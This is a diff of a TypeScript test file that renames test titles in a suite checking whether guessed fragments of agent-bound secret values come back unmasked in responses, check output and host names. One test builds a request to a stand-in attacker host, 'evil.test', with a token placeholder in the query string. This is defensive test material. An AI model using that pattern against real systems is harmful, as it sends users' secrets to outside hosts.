@@ -46,7 +46,7 @@ function shown({ apiCheckResult }: CheckResult): string {
 
 describe('a guessed part of a variable that its agent binds elsewhere', () => {
   it.each(PARTS)(
-    'comes back as it went: %s, in whatever a target answers (trust model SN23)',
+    'is returned unmasked: %s, in whatever a target answers (trust model SN23)',
     async (guess) => {
       const words = ['plain', `${guess}`, `${guess}…`, encodeURIComponent(guess)];
       const body = JSON.stringify({ guess, words, half: Buffer.from(guess).toString('base64') });
@@ -77,7 +77,7 @@ describe('a guessed part of a variable that its agent binds elsewhere', () => {
   );
 
   it.each(PARTS)(
-    'comes back as it went: %s, in whatever the check says (trust model SN23)',
+    'is returned unmasked: %s, in whatever the check contains (trust model SN23)',
     async (guess) => {
       const server = await rawServer(answering(response('200 OK', 'fine')));
       const cut = `${guess}… (cut at 10240 bytes)`;
@@ -105,7 +105,7 @@ describe('a guessed part of a variable that its agent binds elsewhere', () => {
     },
   );
 
-  it('comes back as it went in the name of a host that it may not be sent to (trust model SN23)', async () => {
+  it('is returned unmasked in the name of a host that it may not be sent to (trust model SN23)', async () => {
     for (const guess of ['kp7vx-qm92hz', 'some-other-ab']) {
       const value = 'kp7vx-qm92hz-tulw4rb';
       const request = { url: `https://${guess}.evil.test/?t={{TOKEN}}`, headers: [HEADER] };
